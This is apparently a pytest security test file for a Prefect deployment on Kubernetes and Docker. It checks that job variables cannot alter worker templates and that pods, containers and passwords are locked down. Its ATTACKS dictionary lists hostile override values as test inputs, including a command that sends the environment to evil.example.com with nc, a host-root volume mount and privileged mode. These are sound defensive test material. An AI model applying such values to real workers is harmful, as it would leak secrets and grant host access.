"""What is shipped: no server without a password, no rights that aren't needed, and nothing that job variables reach.

Whoever reaches the Prefect API has the workers' rights all the same: docs/threat-model.md.
"""

import json
import os
import re
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any, get_args

import pytest
import yaml
from prefect.workers.base import BaseJobConfiguration
from prefect.workers.process import ProcessJobConfiguration

from aks_postgres.deploy.passwords import AUTH_STRING, require_password, write_passwords
from aks_postgres.deploy.rendering import HEARTBEAT_S
from aks_postgres.deploy.work_pools import IDENTITY_OF, POOLS, Identity, PoolType, base_job_template
from aks_postgres.exit_codes import CommandFailed

REPOSITORY = Path(__file__).parents[2]
FOLDER = REPOSITORY / "deployments"
COMPOSE = yaml.safe_load((FOLDER / "compose.yaml").read_text())
SERVICES: dict[str, Any] = COMPOSE["services"]
HELM_VALUES = yaml.safe_load((FOLDER / "kubernetes" / "prefect-server-values.yaml").read_text())
MANIFESTS = [
    obj
    for name in ("prefect-server.yaml", "worker.yaml")
    for obj in yaml.safe_load_all((FOLDER / "kubernetes" / name).read_text())
]
TYPES: tuple[PoolType, ...] = get_args(PoolType)
POOLS_OF_EACH_TYPE = [(pool_type, identity) for pool_type in TYPES for identity in POOLS]

# Everything that a job configuration of Prefect's three workers has, and what an attacker would set.
ATTACKS: dict[str, Any] = {
    "command": "sh -c 'env | nc evil.example.com 80'",
    "env": {"PYTHONSTARTUP": "/tmp/evil.py", "PREFECT_FLOWS_HEARTBEAT_FREQUENCY": "86400"},
    "env.PYTHONSTARTUP": "/tmp/evil.py",
    "image": "evil.example.com/image",
    "image_pull_policy": "Always",
    "service_account_name": "aks-postgres-delete",
    "serviceAccountName": "aks-postgres-delete",
    "namespace": "kube-system",
    "job_manifest": {"spec": {"template": {"spec": {"serviceAccountName": "aks-postgres-delete"}}}},
    "job_manifest.spec": {"template": {}},
    "job_configuration": {"command": "sh"},
    "cluster_config": {"config": {}},
    "name": "evil",
    "labels": {"azure.workload.identity/use": "false"},
    "annotations": {"a": "b"},
    "working_dir": "/tmp/evil",
    "stream_output": False,
    "networks": ["host"],
    "network_mode": "host",
    "volumes": ["/:/host"],
    "privileged": True,
    "registry_credentials": {"username": "x"},
    "container_create_kwargs": {"pid_mode": "host"},
    "auto_remove": False,
    "memswap_limit": "-1",
    "finished_job_ttl": 0,
    "backoff_limit": 6,
    "args": ["sh"],
}


class Configuration(BaseJobConfiguration, extra="allow"):
    """What Prefect makes of a template, with the fields of every worker's kind."""


async def resolved(template: dict[str, Any], variables: dict[str, Any]) -> dict[str, Any]:
    # A client that isn't asked: no value names a block or a variable.
    found = await Configuration.from_template_and_values(template, variables, client=object())
    dumped: dict[str, Any] = found.model_dump(mode="json")
    return dumped


@pytest.mark.parametrize(("pool_type", "identity"), POOLS_OF_EACH_TYPE)
async def test_no_job_variable_reaches_a_template(pool_type: PoolType, identity: Identity) -> None:
    template = base_job_template(pool_type, identity)
    untouched = await resolved(template, {})
    assert untouched["command"] is None  # Prefect's own: `prefect flow-run execute`, or its engine
    for name, value in ATTACKS.items():
        assert await resolved(template, {name: value}) == untouched, name
    assert await resolved(template, ATTACKS) == untouched


async def test_a_template_with_a_placeholder_would_be_seen() -> None:
    for name in ("command", "env", "name"):
        template = base_job_template("process", "write")
        template["job_configuration"][name] = f"{{{{ {name} }}}}"
        assert await resolved(template, ATTACKS) != await resolved(template, {})


@pytest.mark.parametrize("pool_type", TYPES)
def test_the_only_variable_is_how_much_memory_a_run_may_have(pool_type: PoolType) -> None:
    template = base_job_template(pool_type, "write")
    variables = template["variables"]
    placeholders = set(re.findall(r"{{\s*([^}]*?)\s*}}", json.dumps(template["job_configuration"])))
    assert placeholders == set(variables["properties"])
    assert placeholders <= {"memory_limit", "mem_limit"}
    # The server refuses every other one: 422, when a deployment is made and when a run of it is.
    assert variables["additionalProperties"] is False
    for variable in variables["properties"].values():
        assert re.fullmatch(variable["pattern"], variable["default"])
        assert not re.fullmatch(variable["pattern"], "{{ prefect.blocks.secret.x }}")


def test_a_template_sets_no_environment_by_the_field_that_prefect_merges_with_the_job_variables() -> None:
    for pool_type, identity in POOLS_OF_EACH_TYPE:
        assert "env" not in base_job_template(pool_type, identity)["job_configuration"]


async def test_a_process_has_prefects_command_and_the_worker_s_environment(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    template = base_job_template("process", "read")
    found = await ProcessJobConfiguration.from_template_and_values(template, ATTACKS, client=object())
    assert (found.command, found.env, found.working_dir) == (None, {}, None)


def test_a_pool_of_kubernetes_runs_as_its_own_service_account() -> None:
    accounts = {
        identity: base_job_template("kubernetes", identity)["job_configuration"]["job_manifest"]["spec"][
            "template"
        ]["spec"]["serviceAccountName"]
        for identity in POOLS
    }
    made = {obj["metadata"]["name"] for obj in MANIFESTS if obj["kind"] == "ServiceAccount"}
    assert len(set(accounts.values())) == 3
    assert made == {"prefect-worker", *accounts.values()}
    annotated = {
        obj["metadata"]["name"]
        for obj in MANIFESTS
        if obj["kind"] == "ServiceAccount"
        and "azure.workload.identity/client-id" in obj["metadata"].get("annotations", {})
    }
    assert annotated == set(accounts.values())


def test_what_deletes_and_what_reads_is_apart_from_what_writes() -> None:
    document = yaml.safe_load((REPOSITORY / "prefect.yaml").read_text())
    pools = {
        (one["entrypoint"].rpartition(".")[2], one["work_pool"]["name"]) for one in document["deployments"]
    }
    # A region without a database has no deployment that makes one.
    assert pools | {("deploy_database", POOLS["write"])} == {
        (flow, POOLS[identity]) for flow, identity in IDENTITY_OF.items()
    }
    assert len(set(POOLS.values())) == 3
    assert all(set(one["work_pool"]) == {"name"} for one in document["deployments"])


# --- containers -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", SERVICES)
def test_a_service_of_compose_has_no_rights_and_a_limit_to_everything(name: str) -> None:
    service = SERVICES[name]
    assert service["cap_drop"] == ["ALL"]
    assert "cap_add" not in service
    assert "privileged" not in service
    # Nothing about seccomp: Docker's own profile holds then, and Compose would read a file called builtin.
    assert service["security_opt"] == ["no-new-privileges:true"]
    assert re.fullmatch(r"[1-9]\d*:[1-9]\d*", service["user"])
    assert service["read_only"] is True
    assert service["tmpfs"]
    assert re.fullmatch(r"[1-9]\d*[mg]", service["mem_limit"])
    assert service["cpus"] > 0
    assert service["pids_limit"] > 0
    assert service.get("network_mode") is None
    assert not any(":/" in volume and volume.startswith(("/", ".")) for volume in service.get("volumes", []))


def pods() -> Iterator[tuple[str, dict[str, Any]]]:
    """Every pod that is shipped: its name and its spec."""
    for identity in POOLS:
        manifest = base_job_template("kubernetes", identity)["job_configuration"]["job_manifest"]
        yield f"run, {identity}", manifest["spec"]["template"]["spec"]
    for obj in MANIFESTS:
        if "template" in obj.get("spec", {}):
            yield obj["metadata"]["name"], obj["spec"]["template"]["spec"]
    server = HELM_VALUES["server"]
    container = {"securityContext": server["containerSecurityContext"], "resources": server["resources"]}
    pod = {"securityContext": server["podSecurityContext"], "containers": [container]}
    yield "prefect-server-values.yaml, server", pod
    # Its Job has no context of its pod's, only one of its container's.
    migrations = HELM_VALUES["migrations"]
    container = {"securityContext": migrations["securityContext"], "resources": migrations["resources"]}
    pod = {"securityContext": migrations["securityContext"], "containers": [container]}
    yield "prefect-server-values.yaml, migrations", pod


PODS = dict(pods())


def test_every_kind_of_pod_is_looked_at() -> None:
    workers = {f"prefect-worker-{identity}" for identity in POOLS}
    runs = {f"run, {identity}" for identity in POOLS}
    server = {f"prefect-server-values.yaml, {part}" for part in ("server", "migrations")}
    assert set(PODS) == workers | runs | server


@pytest.mark.parametrize("name", PODS)
def test_a_pod_has_no_rights_and_a_limit_to_everything(name: str) -> None:
    pod = PODS[name]
    assert pod["securityContext"]["runAsNonRoot"] is True
    assert pod["securityContext"]["runAsUser"] > 0
    assert pod["securityContext"]["seccompProfile"] == {"type": "RuntimeDefault"}
    assert not {"hostNetwork", "hostPID", "hostIPC"} & set(pod)
    assert all(set(volume) <= {"name", "emptyDir"} for volume in pod.get("volumes", []))
    for container in [*pod["containers"], *pod.get("initContainers", [])]:
        context = container["securityContext"]
        assert context["allowPrivilegeEscalation"] is False
        assert context["readOnlyRootFilesystem"] is True
        assert context["capabilities"] == {"drop": ["ALL"]}
        assert set(container["resources"]["limits"]) == {"cpu", "memory", "ephemeral-storage"}
        assert set(container["resources"]["requests"]) == {"cpu", "memory", "ephemeral-storage"}


def test_a_run_in_a_docker_container_has_no_rights_and_a_limit_to_everything() -> None:
    for identity in POOLS:
        job = base_job_template("docker", identity)["job_configuration"]
        assert job["privileged"] is False
        assert job["volumes"] == []
        made = job["container_create_kwargs"]
        assert re.fullmatch(r"[1-9]\d*:[1-9]\d*", made["user"])
        assert (made["read_only"], made["cap_drop"]) == (True, ["ALL"])
        assert made["security_opt"] == ["no-new-privileges:true"]
        assert made["nano_cpus"] > 0
        assert made["pids_limit"] > 0
        assert "host" not in job["networks"]


def test_every_place_that_runs_flows_sends_the_sign_of_life_that_the_automation_waits_for() -> None:
    """Prefect's own is 180 s, at which a healthy run would be marked as crashed."""
    setting = "PREFECT_FLOWS_HEARTBEAT_FREQUENCY"
    wanted = {"name": setting, "value": str(HEARTBEAT_S)}
    assert f"{setting}={HEARTBEAT_S}" in (FOLDER / "Dockerfile").read_text()
    for name, pod in PODS.items():
        if name.startswith(("run", "prefect-worker")):
            assert wanted in pod["containers"][0]["env"], name
    for identity in POOLS:
        assert SERVICES[f"worker-{identity}"]["command"] == [
            "aks-postgres",
            "deployments",
            "worker",
            identity,
        ]


# --- passwords --------------------------------------------------------------------------------------------------------

REQUIRED = re.compile(r"\$\{[A-Z_]+:\?[^}]+}")
SECRET = re.compile(r"PASSWORD|SECRET|TOKEN|AUTH_STRING|CONNECTION_URL|_KEY$")


@pytest.mark.parametrize("name", SERVICES)
def test_every_secret_of_compose_is_required_and_none_stands_there(name: str) -> None:
    secrets = {k: v for k, v in SERVICES[name].get("environment", {}).items() if SECRET.search(k)}
    assert all(REQUIRED.fullmatch(value) for value in secrets.values()), secrets
    needed = {
        "database": {"POSTGRES_PASSWORD"},
        "server": {AUTH_STRING, "PREFECT_SERVER_DATABASE_PASSWORD"},
    }
    assert set(secrets) == needed.get(name, {"PREFECT_API_AUTH_STRING"})


def test_only_a_worker_has_anything_of_azures_and_each_has_its_own() -> None:
    files = {name: service["env_file"] for name, service in SERVICES.items() if "env_file" in service}
    assert files == {f"worker-{identity}": [f"{identity}.env"] for identity in POOLS}
    for name, service in SERVICES.items():
        assert not [key for key in service.get("environment", {}) if key.startswith(("AZURE", "ARM"))], name
    assert "AZURE_CLIENT_SECRET" not in (FOLDER / "worker.env.example").read_text()


def servers() -> Iterator[tuple[str, list[str]]]:
    """Everything shipped that starts a Prefect server, with its whole command."""
    for name, service in SERVICES.items():
        if "PREFECT_SERVER_API_HOST" in service.get("environment", {}):
            yield f"compose.yaml, {name}", service["command"]
    server = HELM_VALUES["server"]
    yield "prefect-server-values.yaml", server["command"] + server["args"]


SERVERS = dict(servers())


def test_nothing_else_starts_a_server() -> None:
    assert set(SERVERS) == {"compose.yaml, server", "prefect-server-values.yaml"}
    for file in [*FOLDER.rglob("*.yaml"), *FOLDER.rglob("*.json"), FOLDER / "Dockerfile"]:
        assert not re.search(r"server[\", ]+start", file.read_text()), file
    assert HELM_VALUES["server"]["basicAuth"] == {"enabled": True, "existingSecret": "prefect-auth"}


UNUSABLE = {
    "nothing": None,
    "empty": "",
    "blank": "  ",
    "no colon": "a-long-enough-password",
    "no user": ":a-long-enough-password",
    "no password": "admin:",
    "blank password": "admin:            ",
    "short password": "admin:hunter2",
    "one character": "admin:aaaaaaaaaaaaaaaa",
    "a line too many": "admin:a-long-enough-password\n",
}


@pytest.mark.parametrize("given", UNUSABLE.values(), ids=UNUSABLE.keys())
def test_an_unusable_password_is_refused_and_not_repeated(given: str | None) -> None:
    with pytest.raises(CommandFailed, match=AUTH_STRING) as refused:
        require_password({} if given is None else {AUTH_STRING: given})
    password = (given or "").rpartition(":")[2].strip()
    assert not password or password not in str(refused.value)


@pytest.mark.parametrize("server", SERVERS)
def test_the_command_of_a_server_refuses_an_empty_password(server: str) -> None:
    installed = str(Path(sys.executable).with_name("aks-postgres"))
    command = [installed if word == "aks-postgres" else word for word in SERVERS[server]]
    done = subprocess.run(
        command,
        env={**os.environ, AUTH_STRING: ""},
        cwd=REPOSITORY,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 2
    assert f"{AUTH_STRING}: it is missing or empty" in done.stderr


def test_drawn_passwords_are_good_ones_of_their_own_for_their_owner_only(tmp_path: Path) -> None:
    drawn: list[str] = []
    before = os.umask(0)
    try:
        for name in ("one.env", "two.env"):
            write_passwords(tmp_path / name)
    finally:
        os.umask(before)
    for name in ("one.env", "two.env"):
        file = tmp_path / name
        assert stat.S_IMODE(file.stat().st_mode) == 0o600
        given = dict(line.split("=", 1) for line in file.read_text().splitlines() if not line.startswith("#"))
        require_password(given)
        assert set(given) == {"POSTGRES_PASSWORD", AUTH_STRING}
        drawn += given.values()
        kept = file.read_text()
        with pytest.raises(CommandFailed, match="is there and stays"):
            write_passwords(file)
        assert file.read_text() == kept
    assert len({value.rpartition(":")[2] for value in drawn}) == 4
